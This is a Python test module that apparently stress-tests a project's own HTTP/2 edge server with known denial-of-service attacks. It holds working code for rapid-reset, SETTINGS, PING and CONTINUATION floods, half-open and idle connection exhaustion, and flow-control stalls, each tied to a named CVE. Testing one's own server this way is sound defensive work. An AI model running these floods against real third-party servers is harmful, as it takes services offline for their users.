"""Attacks on an edge, each in a process of its own: `python -m tests.edge.attacker NAME ADDRESS`.

An attack runs until it has done its share, says on one line of standard output what it did, and
holds what it holds until standard input ends.
"""

import contextlib
import json
import selectors
import socket
import sys
import time
from collections.abc import Callable, Iterator

from tests.edge import http2_frames as h2

MB = 1 << 20
IDLE_CONNECTIONS = 2500
HALVES = 300
RESETS = 300_000
CONTROL_FRAMES = 100_000
CONTINUATION_BYTES = 64 * MB
UNREAD_CALLS = 400
_LIST_MODELS = "/ocelli.v1.ModelService/ListModels"
_AT_ONCE = 100
_LAST_STREAM = 1 << 30
_TIMEOUT_S = 30.0
_held: list[socket.socket] = []


def _opened(address: str, opening: bytes = h2.OPENING + h2.SETTINGS_ACK) -> socket.socket:
    host, _, port = address.rpartition(":")
    opened = socket.create_connection((host, int(port)), timeout=_TIMEOUT_S)
    opened.sendall(opening)
    return opened


class Connection:
    """A socket that takes what the server sends, so that neither side waits for the other."""

    def __init__(self, opened: socket.socket) -> None:
        self.socket = opened
        self.socket.setblocking(False)
        self._ready = selectors.DefaultSelector()
        self._ready.register(self.socket, selectors.EVENT_READ | selectors.EVENT_WRITE)

    def send(self, data: bytes) -> None:
        """Sends it all.

        Raises:
            OSError: the server closed the connection, or takes nothing any more.
        """
        view = memoryview(data)
        until_s = time.monotonic() + _TIMEOUT_S
        while view:
            for _, events in self._ready.select(1):
                if events & selectors.EVENT_READ and not self.socket.recv(MB):
                    raise ConnectionError("closed by the server")
                if events & selectors.EVENT_WRITE:
                    with contextlib.suppress(BlockingIOError):
                        view = view[self.socket.send(view) :]
                        until_s = time.monotonic() + _TIMEOUT_S
            if time.monotonic() > until_s:
                raise TimeoutError

    def close(self) -> None:
        """Leaves."""
        self._ready.close()
        self.socket.close()


def _connection(address: str) -> contextlib.closing[Connection]:
    return contextlib.closing(Connection(_opened(address)))


def _flood(address: str, chunks: Callable[[], Iterator[bytes]], frames: int) -> dict[str, int]:
    """Sends so many frames by as many connections as it takes; `chunks` has `_AT_ONCE` of them."""
    sent = connections = 0
    while sent < frames:
        connections += 1
        with contextlib.suppress(OSError), _connection(address) as connection:
            for chunk in chunks():
                connection.send(chunk)
                sent += _AT_ONCE
                if sent >= frames:
                    break
    return {"frames": sent, "connections": connections}


def rapid_resets(address: str) -> dict[str, int]:
    """Calls that are begun and reset at once (CVE-2023-44487)."""
    headers = h2.call_headers(_LIST_MODELS, address)

    def chunks() -> Iterator[bytes]:
        for first in range(1, _LAST_STREAM, 2 * _AT_ONCE):
            yield b"".join(
                h2.frame(h2.HEADERS, h2.END_HEADERS, stream, headers)
                + h2.frame(h2.RST_STREAM, 0, stream, h2.CANCEL.to_bytes(4))
                for stream in range(first, first + 2 * _AT_ONCE, 2)
            )

    return _flood(address, chunks, RESETS)


def settings(address: str) -> dict[str, int]:
    """Settings, each of which has to be acknowledged (CVE-2019-9515)."""
    return _flood(address, _again(h2.frame(h2.SETTINGS)), CONTROL_FRAMES)


def pings(address: str) -> dict[str, int]:
    """Pings, each of which has to be answered (CVE-2019-9512)."""
    return _flood(address, _again(h2.frame(h2.PING, body=bytes(8))), CONTROL_FRAMES)


def _again(frame: bytes) -> Callable[[], Iterator[bytes]]:
    return lambda: iter(lambda: frame * _AT_ONCE, b"")


def continuations(address: str) -> dict[str, int]:
    """Headers that never end (CVE-2024-27316 and others of the kind)."""
    headers = h2.call_headers(_LIST_MODELS, address)
    more = b"".join(h2.literal(f"x-{number}", "x" * 100) for number in range(140))
    sent = connections = 0
    while sent < CONTINUATION_BYTES:
        connections += 1
        with contextlib.suppress(OSError), _connection(address) as connection:
            connection.send(h2.frame(h2.HEADERS, 0, 1, headers))
            while sent < CONTINUATION_BYTES:
                connection.send(h2.frame(h2.CONTINUATION, 0, 1, more))
                sent += len(more)
    return {"bytes": sent, "connections": connections}


def halves(address: str) -> dict[str, int]:
    """Connections that stop in the middle: of the preface, a frame's head, headers, a message."""
    headers = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.call_headers(_LIST_MODELS, address))
    whole = (
        h2.PREFACE,
        h2.OPENING + h2.frame(h2.SETTINGS, body=bytes(6)),
        h2.OPENING + headers,
        h2.OPENING + headers + h2.frame(h2.DATA, 0, 1, h2.message(b"half", 1000)),
    )
    for number in range(HALVES):
        kind = whole[number % len(whole)]
        # Of the last one the frame is whole, and the message is not.
        end = len(kind) if kind is whole[-1] else len(kind) - 5
        _held.append(_opened(address, kind[:end]))
    return {"connections": len(_held)}


def unread_answers(address: str) -> dict[str, int]:
    """Calls whose answers the caller's window has no room for."""
    window = h2.INITIAL_WINDOW_SIZE.to_bytes(2) + bytes(4)
    opened = _opened(address, h2.PREFACE + h2.frame(h2.SETTINGS, body=window))
    connection = Connection(opened)
    headers = h2.call_headers(_LIST_MODELS, address)
    for stream in range(1, 2 * UNREAD_CALLS, 2):
        connection.send(
            h2.frame(h2.HEADERS, h2.END_HEADERS, stream, headers)
            + h2.frame(h2.DATA, h2.END_STREAM, stream, h2.message())
        )
    _held.append(opened)
    return {"calls": UNREAD_CALLS}


def idle(address: str) -> dict[str, int]:
    """Connections that do nothing."""
    _held.extend(_opened(address) for _ in range(IDLE_CONNECTIONS))
    return {"connections": len(_held)}


ATTACKS = (rapid_resets, settings, pings, continuations, halves, unread_answers, idle)

if __name__ == "__main__":
    named = {attack.__name__: attack for attack in ATTACKS}
    began_s = time.monotonic()
    done: dict[str, float] = {**named[sys.argv[1]](sys.argv[2])}
    done["seconds"] = round(time.monotonic() - began_s, 2)
    print(json.dumps(done), flush=True)
    sys.stdin.read()
